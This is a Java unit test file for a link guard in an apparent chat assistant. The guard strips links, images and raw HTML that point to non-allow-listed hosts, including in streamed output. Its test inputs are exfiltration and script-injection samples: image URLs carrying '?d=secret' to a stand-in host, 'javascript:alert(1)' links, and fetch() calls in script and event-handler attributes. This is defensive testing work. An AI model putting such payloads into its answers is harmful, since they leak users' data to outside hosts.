package dev.quire.chat;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.quire.chat.agent.Citations;
import dev.quire.chat.agent.LinkGuard;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Links and images to hosts outside the allow-list are neutralised, also when they arrive split over many deltas. */
class LinkGuardTest {
    private static final List<String> ALLOWED = List.of("docs.quire.dev");

    /** What a guard let through of a stream, and how many links and images it neutralised. */
    private record Guarded(String text, int neutralised) {}

    /** Streams the deltas through a guard over {@link #ALLOWED}, one by one, and finishes it. */
    private static Guarded guard(String... deltas) {
        List<String> out = new ArrayList<>();
        var guard = new LinkGuard(ALLOWED, out::add);
        for (String d : deltas) {
            guard.accept(d);
        }
        guard.finish();
        return new Guarded(String.join("", out), guard.neutralised());
    }

    @Test
    void imagesAndLinksToOtherHostsKeepOnlyTheirTextWhileAllowedOnesAndCitationsPass() {
        assertEquals(
                "See status and details [1], [guide](https://docs.quire.dev/a) and [2].",
                LinkGuard.clean(
                        "See ![status](https://canary.example/x?d=secret) and [details](http://evil.example) [1],"
                                + " [guide](https://docs.quire.dev/a) and [2].",
                        ALLOWED));
        assertEquals("go  now", LinkGuard.clean("go <https://canary.example/x> now", ALLOWED));
        assertEquals("[1]:\nok", LinkGuard.clean("[1]: https://canary.example/x\nok", ALLOWED));
        assertEquals(
                "x javascript",
                LinkGuard.clean("x [javascript](javascript:alert(1))", ALLOWED).replace(")", ""));
    }

    @Test
    void rawHtmlThatLoadsOrRunsSomethingIsRemovedLikeAMarkdownImage() {
        String[][] cases = {
            {"a <img src=\"https://canary.example/x?d=secret\" alt=\"cat\"> b", "a cat b"},
            {"a <IMG SRC=https://docs.quire.dev/x.png> b", "a  b"}, // even on an allowed host: no raw images
            {"<img/src=https://canary.example/x>", ""},
            {"x <img alt=\"a>b\" src=\"https://canary.example/q\"> y", "x a>b y"},
            {"<picture><source srcset=\"https://canary.example/a 1x\"><img src=x alt=p></picture>", "p"},
            {"<iframe src=\"https://canary.example/f\"></iframe>ok", "ok"},
            {"<object data=\"https://canary.example/o\"></object><embed src=https://canary.example/e>", ""},
            {"<video src=https://canary.example/v poster=https://canary.example/p></video>", ""},
            {"<audio src='https://canary.example/a'></audio>", ""},
            {"<link rel=stylesheet href=https://canary.example/s.css>", ""},
            {"<div style=\"background:url(https://canary.example/b)\">text</div>", "text</div>"},
            {"<span style=\"background: u\\rl('https://canary.example')\">t</span>", "t</span>"},
            {"<a href=\"javascript:alert(1)\">click</a> me", "click me"},
            {"<a title=\"x>\" href=\"javascript:alert(1)\">click</a>", "click"},
            {"<a href=\"https://canary.example/l\">label</a>", "label"},
            {"<p onmouseover=\"fetch('https://canary.example')\">hi</p>", "hi</p>"},
            {"<meta http-equiv=refresh content=\"0;url=https://canary.example\">", ""},
            {"<script>fetch('https://canary.example')</script>", "fetch('https://canary.example')"},
        };
        for (String[] c : cases) {
            assertEquals(c[1], LinkGuard.clean(c[0], ALLOWED), c[0]);
        }
        // a tag still open when the answer ends (a quote cut mid-tag) cannot be completed by later text
        assertEquals(
                "cut &lt;img src=\"https://canary.example/p.png [1]",
                LinkGuard.clean("cut <img src=\"https://canary.example/p.png [1]", ALLOWED));
        // harmless HTML and comparisons stay as they are, links to allowed hosts too
        assertEquals("<b>bold</b> and 3 < 4, x<y", LinkGuard.clean("<b>bold</b> and 3 < 4, x<y", ALLOWED));
        assertEquals(
                "<a href=\"https://docs.quire.dev/a\">guide</a>",
                LinkGuard.clean("<a href=\"https://docs.quire.dev/a\">guide</a>", ALLOWED));
        // split over deltas, the tag is held back until its '>' and then removed
        var guarded =
                guard("See <im", "g src=\"https://can", "ary.example/x?d=", "secret\" alt=\"the chart\"", "> now");
        assertEquals("See the chart now", guarded.text());
        assertEquals(1, guarded.neutralised());
    }

    @Test
    void aLinkSplitAcrossDeltasIsHeldBackUntilDecided() {
        var guarded = guard("Look ", "![", "cat", "](https://can", "ary.example/a.png", ") done [", "1", "]");
        assertEquals("Look cat done [1]", guarded.text());
        assertEquals(1, guarded.neutralised());
    }

    @Test
    void unsupportedCitationMarkersAreRemovedAndTheOthersKept() {
        assertEquals(
                "A [1] and B.", Citations.repair("A [1] and B [7].", List.of(7)).replace(" .", "."));
    }
}
